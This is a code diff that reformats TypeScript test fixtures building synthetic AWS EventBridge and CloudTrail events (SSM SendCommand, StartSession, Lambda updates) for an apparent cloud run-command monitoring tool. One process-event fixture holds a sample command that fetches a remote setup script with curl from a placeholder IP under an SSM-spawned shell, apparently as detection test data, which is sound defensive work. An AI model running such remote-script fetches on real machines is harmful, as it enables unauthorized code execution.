@@ -11,10 +11,21 @@ export const REGION = 'us-east-1'
 export const MACHINE = 'i-0123456789abcdef0'
 
 /** As many different machine ids as wanted. */
-export const machines = (count: number, mark = '0'): readonly string[] => Array.from({ length: count }, (_, place) => `i-${mark}${String(place).padStart(16, '0')}`)
+export const machines = (count: number, mark = '0'): readonly string[] =>
+  Array.from({ length: count }, (_, place) => `i-${mark}${String(place).padStart(16, '0')}`)
 
 /** What the envelope of every event on the bus holds. */
-const busEvent = (detailType: string, source: string, time: string, detail: unknown) => ({ version: '0', id: nextId(), 'detail-type': detailType, source, account: ACCOUNT, time, region: REGION, resources: [] as readonly string[], detail })
+const busEvent = (detailType: string, source: string, time: string, detail: unknown) => ({
+  version: '0',
+  id: nextId(),
+  'detail-type': detailType,
+  source,
+  account: ACCOUNT,
+  time,
+  region: REGION,
+  resources: [] as readonly string[],
+  detail,
+})
 
 interface CallOptions {
   readonly eventId?: string
@@ -27,8 +38,21 @@ interface CallOptions {
 }
 
 /** A call by an assumed role as EventBridge delivers it. `operation` is `<service>:<event name>`. */
-export const callEvent = (operation: string, requestParameters: unknown, responseElements: unknown, options: CallOptions = {}) => {
-  const { eventId = nextId(), time = '2026-03-02T10:00:00Z', role = 'Deploy', session = 'session-1', ip = '192.0.2.10', account = ACCOUNT, region = REGION } = options
+export const callEvent = (
+  operation: string,
+  requestParameters: unknown,
+  responseElements: unknown,
+  options: CallOptions = {},
+) => {
+  const {
+    eventId = nextId(),
+    time = '2026-03-02T10:00:00Z',
+    role = 'Deploy',
+    session = 'session-1',
+    ip = '192.0.2.10',
+    account = ACCOUNT,
+    region = REGION,
+  } = options
   const [service = '', eventName = ''] = operation.split(':')
   return {
     ...busEvent('AWS API Call via CloudTrail', `aws.${service}`, time, {
@@ -39,7 +63,15 @@ export const callEvent = (operation: string, requestParameters: unknown, respons
         arn: `arn:aws:sts::${account}:assumed-role/${role}/${session}`,
         accountId: account,
         accessKeyId: 'ASIAEXAMPLEEXAMPLE00',
-        sessionContext: { sessionIssuer: { type: 'Role', principalId: 'AROAEXAMPLEEXAMPLE000', arn: `arn:aws:iam::${account}:role/${role}`, accountId: account, userName: role } },
+        sessionContext: {
+          sessionIssuer: {
+            type: 'Role',
+            principalId: 'AROAEXAMPLEEXAMPLE000',
+            arn: `arn:aws:iam::${account}:role/${role}`,
+            accountId: account,
+            userName: role,
+          },
+        },
       },
       eventTime: time,
       eventSource: `${service}.amazonaws.com`,
@@ -72,22 +104,62 @@ export interface SendCommandOptions extends CallOptions {
 const MASKED = 'HIDDEN_DUE_TO_SECURITY_REASONS'
 
 /** A SendCommand; the text is hidden, as CloudTrail hides it. */
-export const sendCommandEvent = ({ commandId = nextId(), instances = [MACHINE], targets = [], document = 'AWS-RunShellScript', ...options }: SendCommandOptions = {}) => {
+export const sendCommandEvent = ({
+  commandId = nextId(),
+  instances = [MACHINE],
+  targets = [],
+  document = 'AWS-RunShellScript',
+  ...options
+}: SendCommandOptions = {}) => {
   const aim = targets.length > 0 ? { targets } : { instanceIds: instances }
-  const command = { commandId, documentName: document, documentVersion: '$DEFAULT', instanceIds: [], targets: [], ...aim, targetCount: targets.length > 0 ? 0 : instances.length, parameters: MASKED, status: 'Pending', maxConcurrency: '50', maxErrors: '0' }
-  return callEvent('ssm:SendCommand', { documentName: document, ...aim, interactive: false, parameters: MASKED }, { command }, options)
+  const command = {
+    commandId,
+    documentName: document,
+    documentVersion: '$DEFAULT',
+    instanceIds: [],
+    targets: [],
+    ...aim,
+    targetCount: targets.length > 0 ? 0 : instances.length,
+    parameters: MASKED,
+    status: 'Pending',
+    maxConcurrency: '50',
+    maxErrors: '0',
+  }
+  return callEvent(
+    'ssm:SendCommand',
+    { documentName: document, ...aim, interactive: false, parameters: MASKED },
+    { command },
+    options,
+  )
 }
 
 /** A session on one machine: no text to be asked for. */
-export const startSessionEvent = (target: string, options: CallOptions = {}) => callEvent('ssm:StartSession', { target }, { sessionId: `${options.role ?? 'Deploy'}-0123456789abcdef0`, tokenValue: 'Value hidden due to security reasons.' }, options)
+export const startSessionEvent = (target: string, options: CallOptions = {}) =>
+  callEvent(
+    'ssm:StartSession',
+    { target },
+    { sessionId: `${options.role ?? 'Deploy'}-0123456789abcdef0`, tokenValue: 'Value hidden due to security reasons.' },
+    options,
+  )
 
 /** Somebody replaces the code of a function. */
 export const updateFunctionEvent = (functionName: string, options: CallOptions = {}) =>
-  callEvent('lambda:UpdateFunctionCode20150331v2', { functionName, dryRun: false }, { functionName, functionArn: `arn:aws:lambda:${REGION}:${ACCOUNT}:function:${functionName}` }, options)
+  callEvent(
+    'lambda:UpdateFunctionCode20150331v2',
+    { functionName, dryRun: false },
+    { functionName, functionArn: `arn:aws:lambda:${REGION}:${ACCOUNT}:function:${functionName}` },
+    options,
+  )
 
 /** Systems Manager's own status event of a command, with its text in clear. */
 export const nativeCommandEvent = (commandId: string, commands: readonly string[], time = '2026-03-02T10:00:01Z') => ({
-  ...busEvent('EC2 Command Status-change Notification', 'aws.ssm', time, { 'command-id': commandId, 'document-name': 'AWS-RunShellScript', parameters: { commands }, 'requested-date-time': time, status: 'Success' }),
+  ...busEvent('EC2 Command Status-change Notification', 'aws.ssm', time, {
+    'command-id': commandId,
+    'document-name': 'AWS-RunShellScript',
+    parameters: { commands },
+    'requested-date-time': time,
+    status: 'Success',
+  }),
   resources: [`arn:aws:ec2:${REGION}:${ACCOUNT}:instance/${MACHINE}`],
 })
 
@@ -104,7 +176,14 @@ export const processEvent = (commandId: string, time = '2026-03-02T10:00:05.250Z
       name: 'curl',
       executable: '/usr/bin/curl',
       command_line: 'curl -s http://203.0.113.9/setup.sh',
-      parent: { entity_id: 'e-1', pid: 4_102, name: 'sh', executable: '/usr/bin/sh', command_line: `sh ${script}`, args: ['sh', script] },
+      parent: {
+        entity_id: 'e-1',
+        pid: 4_102,
+        name: 'sh',
+        executable: '/usr/bin/sh',
+        command_line: `sh ${script}`,
+        args: ['sh', script],
+      },
       entry_leader: { entity_id: 'e-0', pid: 900, name: 'amazon-ssm-agent', executable: '/usr/bin/amazon-ssm-agent' },
     },
     host: { name: 'ip-10-0-0-5', hostname: 'ip-10-0-0-5' },
@@ -116,7 +195,8 @@ export const processEvent = (commandId: string, time = '2026-03-02T10:00:05.250Z
 export const heartbeatEvent = () => busEvent('Runwarden Heartbeat', 'runwarden.heartbeat', '2026-03-02T10:05:00Z', {})
 
 /** What `runwarden selftest aws` puts on the bus. */
-export const selftestEvent = (mark: string) => busEvent('Runwarden Selftest', 'runwarden.selftest', '2026-03-02T10:05:00Z', { mark })
+export const selftestEvent = (mark: string) =>
+  busEvent('Runwarden Selftest', 'runwarden.selftest', '2026-03-02T10:05:00Z', { mark })
 
 /** What the Azure half tells of one of its activities. */
 export const digest = (given: Readonly<Record<string, unknown>> = {}) => ({
